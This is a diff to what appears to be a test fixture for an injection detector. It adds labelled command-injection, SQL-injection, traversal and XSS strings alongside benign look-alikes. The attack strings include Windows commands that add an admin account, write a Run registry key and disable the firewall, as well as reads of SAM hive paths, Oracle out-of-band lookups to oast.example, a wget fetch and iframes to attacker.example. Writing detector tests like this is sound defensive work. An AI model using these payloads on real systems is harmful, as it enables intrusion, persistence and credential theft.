@@ -31,10 +31,17 @@ ATTACKS: dict[str, tuple[str, Context, str]] = {
     "cmdi_meterpreter_sysinfo_after_separator": ("x && sysinfo", BODY, "cmdi"),
     "cmdi_strong_tool_in_indented_block_still_counts": ("see below\n\n    wget http://oast.example/x -O /tmp/x", BODY,
                                                          "cmdi"),
+    "cmdi_php_exec_on_echo": ("exec('echo probe-1234')", QUERY, "cmdi"),
+    "cmdi_whole_value_adds_windows_account": ("net user svc_backup S3cret! /add", BODY, "cmdi"),
+    "cmdi_whole_value_adds_local_admin": ("net localgroup administrators svc_backup /ADD", QUERY, "cmdi"),
+    "cmdi_whole_value_registry_write": ("reg add HKCU\\Software\\Run /v x /d c:\\x.exe", BODY, "cmdi"),
+    "cmdi_whole_value_firewall_off": ("netsh advfirewall set allprofiles state off", BODY, "cmdi"),
     # SQL: a quote closed, then a union left open for the error it raises
     "sqli_quote_then_open_union_select": ("widget' union select", QUERY, "sqli"),
     "sqli_paren_quote_then_union_all_select_comment": ("7\") UNION ALL SELECT -- ", BODY, "sqli"),
     "sqli_hex_escaped_quote_then_union": ("\\x27 union distinct select", BODY, "sqli"),
+    "sqli_oracle_utl_inaddr_concatenated": ("x'||utl_inaddr.get_host_address('oast.example')||'", QUERY, "sqli"),
+    "sqli_oracle_dbms_pipe_concatenated": ("||DBMS_PIPE.RECEIVE_MESSAGE('a',4)", BODY, "sqli"),
     # templates: literal method calls, Twig's dump, long expressions whose closing brace is far away
     "ssti_method_on_string_literal": ("{{ \"abc\".toLowerCase() }}", BODY, "ssti"),
     "ssti_twig_dump_of_environment": ("{{ dump(_context) }}", BODY, "ssti"),
@@ -44,6 +51,10 @@ ATTACKS: dict[str, tuple[str, Context, str]] = {
     "traversal_proc_with_pid_variable": ("/proc/${pid}/environ", QUERY, "traversal"),
     "traversal_proc_with_glob": ("/proc/*/cmdline", QUERY, "traversal"),
     "traversal_data_uri_of_php_source": ("data:text/x-php;base64,PD9waHAgZWNobyAxOyA/Pg==", QUERY, "traversal"),
+    "traversal_sam_hive_backup": ("type %WINDIR%\\repair\\security", BODY, "traversal"),
+    "traversal_repair_sam_relative": ("..\\windows\\repair\\sam", QUERY, "traversal"),
+    # XSS: SVG animation that writes an event handler
+    "xss_svg_set_writes_handler": ('<svg><set attributeName="onclick" to="confirm(5)"/></svg>', BODY, "xss"),
     # XSS: frames that are still script tags
     "xss_open_iframe_to_web_page": ("<iframe src=https://attacker.example/p.html>", BODY, "xss"),
     "xss_closed_iframe_after_attribute_breakout": ("'><iframe src=//attacker.example/x></iframe>", BODY, "xss"),
@@ -72,6 +83,10 @@ BENIGN: dict[str, tuple[str, Context]] = {
     "quote_then_prose_word": ("' netstat output attached below", BODY),
     "union_in_prose": ("The workers' union selected a new representative", QUERY),
     "template_variables_and_filters": ("Hello {{ user.name }}, {{ 'Welcome' | translate }}!", BODY),
+    "net_user_in_prose": ("The net user count grew 5% in May; add more seats", BODY),
+    "registry_key_in_docs": ("The setting lives under HKLM\\Software\\Acme (see reg add docs)", BODY),
+    "svg_animation_of_colour": ('<svg><animate attributeName="fill" from="red" to="blue" dur="2s"/></svg>', BODY),
+    "oracle_concat_of_columns": ("first_name || ' ' || last_name", QUERY),
     "proc_path_in_docs_sentence": ("read the docs about /proc and cgroups", QUERY),
 }
 
